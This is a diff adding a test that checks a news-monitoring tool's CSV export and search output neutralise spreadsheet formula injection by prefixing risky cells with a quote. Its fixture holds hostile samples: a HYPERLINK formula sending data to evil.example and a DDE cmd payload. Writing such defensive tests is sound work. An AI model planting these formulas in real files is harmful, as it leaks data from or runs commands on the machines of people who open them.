@@ -147,3 +147,32 @@ def test_an_exported_file_follows_the_umask(stiwatch, ids, tmp_path):
         os.umask(previous)
     assert out.stat().st_mode & 0o777 == 0o644
     assert out.read_text(encoding="utf-8").startswith("id,url,")
+
+
+def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_text(stiwatch, db_path, tmp_path):
+    # A crawled title or summary starting with = + - @ was written as is: Excel runs it as a
+    # formula when an analyst opens the export (HYPERLINK exfiltration, DDE).
+    import db
+    analysts_store.build(db_path)
+    title = '=HYPERLINK("http://evil.example/?"&A1, "Read more")'
+    with db.open_store(db_path) as store:
+        [(item_id, _)] = store.save_items([{
+            "url": "https://mext-news.example/formula", "source_id": "mext-news",
+            "title": title, "summary": "@SUM(1+1)*cmd|' /C calc'!A0", "body": "-2+3 budget",
+            "published_at": analysts_store.ago(1), "date_source": "feed", "language": "en"}])
+    out = tmp_path / "items.csv"
+    assert stiwatch("export", "--format", "csv", "--out", str(out)).exit_code == 0
+    row = next(r for r in csv.DictReader(io.StringIO(out.read_text(encoding="utf-8")))
+               if int(r["id"]) == item_id)
+    assert row["title"] == "'" + title
+    assert row["summary"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+    assert row["body"] == "'-2+3 budget"
+    assert row["policy_score"] == ""  # numbers and empty cells untouched
+    # JSON Lines is data for programs: kept exactly as crawled.
+    jsonl = stiwatch("export", "--format", "jsonl").output.splitlines()
+    assert json.loads(next(line for line in jsonl if f'"id": {item_id},' in line))["title"] == title
+    # `stiwatch search --format csv` is opened in spreadsheets too.
+    found = stiwatch("search", "HYPERLINK", "--format", "csv")
+    assert found.exit_code == 0, found.output
+    [hit] = list(csv.DictReader(io.StringIO(found.output)))
+    assert hit["title"] == "'" + title
